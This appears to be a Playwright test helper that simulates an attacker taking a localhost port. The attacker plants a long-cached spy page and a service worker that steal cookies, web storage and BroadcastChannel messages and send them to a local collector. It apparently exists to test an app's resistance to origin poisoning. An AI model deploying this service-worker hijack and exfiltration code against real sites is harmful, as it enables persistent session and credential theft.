import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import type { Page } from '@playwright/test';
import type { StartStranger, Stranger } from './stranger.ts';

/** How the service worker of a stranger's page answers when its server is gone. */
export type Poison =
  /** Every page and script by its own; its script may be asked for again at each visit, as browsers do by themselves. */
  | 'everything'
  /** The same, and its script stays in the cache, so that the browser does not ask for it. */
  | 'everything-cached'
  /** Scripts by its own; anything else is fetched, so that a page looks right. */
  | 'scripts';

/** What listens to what poisoned pages and scripts tell, on a port of its own. */
const collector = `
import { createServer } from 'node:http';
const server = createServer((request, response) => {
  let text = request.url;
  request.setEncoding('utf8').on('data', (chunk) => { text += chunk; });
  request.on('end', () => {
    console.log(JSON.stringify({ collected: text }));
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
});
server.listen(0, '127.0.0.1', () => console.log(JSON.stringify({ collector: server.address().port })));
`;

/**
 * The server of a stranger on a port: every path is a page, or a script, that tells the collector all that it can see,
 * to be kept for a year. The page registers a service worker for the whole origin.
 */
const poisoner = `
import { createServer } from 'node:http';
const [port, collector, poison] = process.argv.slice(2);
const year = { 'Cache-Control': 'public, max-age=31536000', 'Cross-Origin-Opener-Policy': 'same-origin' };
const tell = \`
  const tell = (what) => fetch('http://127.0.0.1:\${collector}/', { method: 'POST', mode: 'no-cors', body: String(what), keepalive: true }).catch(() => {});
\`;
const spy = \`\${tell}
  globalThis.poisoned = true;
  const look = () => tell(JSON.stringify({ href: location.href, session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie }));
  look();
  setInterval(look, 100);
  addEventListener('pageshow', look);
  for (const name of ['netready', 'netready-session', 'session']) new BroadcastChannel(name).onmessage = ({ data }) => tell(JSON.stringify(data));
\`;
const page = \`<!doctype html><title>Not Netready</title><script>\${spy}</script>\`;
const worker = \`\${tell}
  const page = \${JSON.stringify(page)}, spy = \${JSON.stringify(spy)};
  const asPage = { headers: { 'Content-Type': 'text/html', 'Cross-Origin-Opener-Policy': 'same-origin' } };
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    const { request } = event;
    tell(JSON.stringify({ worker: request.url, headers: [...request.headers] }));
    if (request.destination === 'script') event.respondWith(new Response(spy, { headers: { 'Content-Type': 'text/javascript' } }));
    else if (request.mode === 'navigate' && '\${poison}' !== 'scripts') event.respondWith(new Response(page, asPage));
    else event.respondWith(fetch(request));
  });
\`;
createServer((request, response) => {
  const isScript = /\\.m?js(\\?|$)/.test(request.url);
  const type = isScript ? 'text/javascript' : 'text/html';
  const body = request.url === '/worker.js' ? worker : isScript ? spy : page;
  response.writeHead(200, { 'Content-Type': type, 'Service-Worker-Allowed': '/', ...year }).end(body);
}).listen(Number(port), '127.0.0.1', () => console.log(JSON.stringify({ listening: true })));
`;

type CollectorLine = { readonly collector: number };
const isCollector = (line: unknown): line is CollectorLine => Object.hasOwn(Object(line), 'collector');
const isListening = (line: unknown): line is object => Object.hasOwn(Object(line), 'listening');

/** A port of 127.0.0.1 that nothing uses now. */
export async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}

/** A browser into which a stranger has put pages of his own for a port, which is free again. */
export type Poisoned = {
  /** All that the stranger has learned so far. */
  readonly collected: () => string;
  /** The stranger's page, still open in its tab. */
  readonly page: Page;
};

const toldBy = (stranger: Stranger): string => stranger.told.map((line) => JSON.stringify(line)).join('\n');

/**
 * Lets a stranger hold a port while a browser visits it, by the root and by the paths that are given; then the
 * stranger lets go of the port.
 */
export async function poisonBrowser(
  startAsStranger: StartStranger,
  page: Page,
  port: number,
  poison: Poison,
  paths: readonly string[],
): Promise<Poisoned> {
  const listening = startAsStranger(collector);
  const { collector: collectorPort } = await listening.tells(isCollector);
  const holding = startAsStranger(poisoner, [String(port), String(collectorPort), poison]);
  await holding.tells(isListening);
  await page.goto(`http://127.0.0.1:${port}/`);
  await page.evaluate(
    async ({ paths, updateViaCache }) => {
      for (const path of paths) await (await fetch(path)).text();
      const { serviceWorker } = navigator;
      const controlled = new Promise((resolve) =>
        serviceWorker.addEventListener('controllerchange', resolve),
      );
      await serviceWorker.register('/worker.js', { scope: '/', updateViaCache });
      if (serviceWorker.controller === null) await controlled;
    },
    { paths, updateViaCache: poison === 'everything-cached' ? ('all' as const) : ('imports' as const) },
  );
  await holding.end();
  return { collected: () => toldBy(listening), page };
}
